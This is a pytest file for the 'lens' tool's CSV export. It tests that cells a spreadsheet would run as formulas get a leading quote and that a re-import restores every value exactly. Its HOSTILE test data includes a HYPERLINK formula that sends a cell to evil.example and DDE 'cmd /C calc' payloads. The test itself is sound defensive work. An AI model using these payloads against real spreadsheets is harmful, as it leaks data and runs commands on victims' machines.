"""``lens export RUN -o x.csv``: text a server controls cannot run as a spreadsheet formula.

OWASP's CSV injection rule: a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or
carriage return gets a leading ``'`` (so does one already starting with ``'``, which keeps
the rule reversible); lens's own CSV readers take exactly one ``'`` off again, so an
export imported back is the run that was exported, to the byte.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from helpers_store import make_chunks, make_record, run_info

from lens.importers import import_file
from lens.record import CHUNK_FIELDS, REQUEST_FIELDS
from lens.store.files import export_run
from lens.store.files_import import import_run, read_run
from lens.store.sql import SQLStore, open_store

HOSTILE = {
    "server_request_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "server_model": "+cmd|' /C calc'!A0",
    "error": "-2+3+cmd|' /C calc'!A0",
    "routing": "@SUM(1+1)*cmd|' /C calc'!A0",
    "system_fingerprint": "\t=1+1",
    "session_id": "\r=1+1",
    "prompt_id": "'already quoted",  # a value that genuinely starts with a quote
    "prompt_hash": "''two quotes",
    "model": "=model-from-server",  # a category column
    "target": "-target",
    "ratelimit": "=ratelimit",
}
TEXT = {c.name for c in REQUEST_FIELDS if c.type in ("str", "category")}
CHUNK_TEXT = {c.name for c in CHUNK_FIELDS if c.type in ("str", "category")}
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path: Path):
    s = open_store(tmp_path / "src.db")
    s.start_run(run_info("r1"))
    recs = [make_record("r1", i) for i in range(6)]
    for name, value in HOSTILE.items():
        setattr(recs[1], name, value)
    recs[2].request_id = "=chunk-owner"  # also in the chunk file's request_id column
    recs[3].error = "plain text stays as it is"
    s.add_many(recs, [c for r in recs for c in make_chunks(r, 3)])
    s.finish_run("r1", status="complete")
    yield s
    s.close()


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_quotes_every_text_cell_a_spreadsheet_would_run(
    store: SQLStore, tmp_path: Path
) -> None:
    files = export_run(store, "r1", tmp_path / "run.csv")
    rows = _rows(files.requests)
    hostile = rows[1]
    for name, value in HOSTILE.items():
        assert hostile[name] == "'" + value, name
    for row in rows:
        for name in TEXT:
            assert not row[name].startswith(DANGER), (name, row[name])
    assert rows[3]["error"] == "plain text stays as it is"
    assert rows[2]["request_id"] == "'=chunk-owner"
    # numbers are never touched (a quote would make them text in a spreadsheet)
    want = store.requests_frame("r1")
    assert [r["ttft_ms"] for r in rows] == [repr(v) for v in want["ttft_ms"]]
    assert [r["shard"] for r in rows] == [str(v) for v in want["shard"]]
    chunk_rows = _rows(files.chunks)
    assert {r["request_id"] for r in chunk_rows if "chunk-owner" in r["request_id"]} == {
        "'=chunk-owner"}
    for row in chunk_rows:
        for name in CHUNK_TEXT:
            assert not row[name].startswith(DANGER), (name, row[name])


def test_csv_export_then_import_gives_back_every_value_exactly(
    store: SQLStore, tmp_path: Path
) -> None:
    out = tmp_path / "run.csv"
    export_run(store, "r1", out)
    want_req = store.requests_frame("r1").reset_index(drop=True)
    want_chunks = store.chunks_frame("r1").reset_index(drop=True)

    _, req, chunks = read_run(out)  # lens.store.files (lens.load, import_run)
    pd.testing.assert_frame_equal(req, want_req)
    pd.testing.assert_frame_equal(chunks, want_chunks)
    for name, value in HOSTILE.items():
        assert req[name].iloc[1] == value, name

    dest = open_store(tmp_path / "dest.db")
    try:
        assert import_run(dest, out) == "r1"
        pd.testing.assert_frame_equal(dest.requests_frame("r1"), want_req)
        pd.testing.assert_frame_equal(dest.chunks_frame("r1"), want_chunks)
    finally:
        dest.close()

    run = import_file(out)  # `lens import FILE` (lens.importers.lens_files)
    got = run.requests.reset_index(drop=True)
    for name in TEXT:
        assert got[name].astype(object).tolist() == want_req[name].astype(object).tolist(), name
    assert run.chunks is not None
    assert sorted(run.chunks["request_id"].astype(str)) == sorted(
        want_chunks["request_id"].astype(str))
